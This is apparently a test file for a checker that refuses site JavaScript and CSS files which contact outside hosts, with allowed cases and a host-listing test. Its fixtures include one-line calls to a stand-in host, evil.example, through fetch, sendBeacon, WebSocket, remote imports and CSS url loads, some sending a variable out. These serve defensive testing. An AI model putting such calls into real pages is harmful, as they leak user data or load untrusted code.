import { hostsNamed, refusalOfHosts } from './hosts.ts';

it.each([
  ['a.js', 'fetch("https://evil.example/x")'],
  ['a.js', "fetch('//evil.example/x')"],
  ['a.js', 'fetch(`https://evil.example/${e}`)'],
  ['a.js', 'new WebSocket("wss://evil.example")'],
  ['a.js', 'navigator.sendBeacon("https://EVIL.example/b",e)'],
  ['a.js', 'new EventSource("https://evil.example")'],
  ['a.js', 'import("https://evil.example/a.js")'],
  ['a.js', 'import*as e from"https://evil.example/a.js"'],
  ['a.js', 'x.open("GET","https://evil.example/a")'],
  ['a.js', 's.src="https://evil.example/a.js"'],
  ['a.js', 'importScripts("https://evil.example/a.js")'],
  ['a.css', '.a{background:url(https://evil.example/a.png)}'],
  ['a.css', '.a{background:url("//evil.example/a.png")}'],
  ['a.css', '@import "https://evil.example/a.css";'],
])('%s is refused for %s', (path, text) => {
  expect(refusalOfHosts('travel', [[path, text]])).toBe(
    `${path} of travel contacts evil.example, which the policy of the site’s pages does not let it. Bring the file along, or ask through the service.`,
  );
});

it.each([
  ['a.js', 'href:"https://www.linkedin.com/company"'],
  ['a.js', 'window.location.assign("https://pay.example")'],
  ['a.js', '/* https://github.com/a/b */'],
  ['a.js', 'xmlns:"http://www.w3.org/2000/svg"'],
  ['a.js', 'fetch(e.url)'],
  ['a.js', 's.src="/remotes/a.js"'],
  ['a.css', '.a{background:url(a.png)}/* https://example.org */'],
])('%s may say %s', (path, text) => {
  expect(refusalOfHosts('travel', [[path, text]])).toBeNull();
});

it('lists every host by name, once', () => {
  expect(hostsNamed(['a="https://b.example/1"', 'c="http://a.example" // https://b.example'])).toEqual([
    'a.example',
    'b.example',
  ]);
});
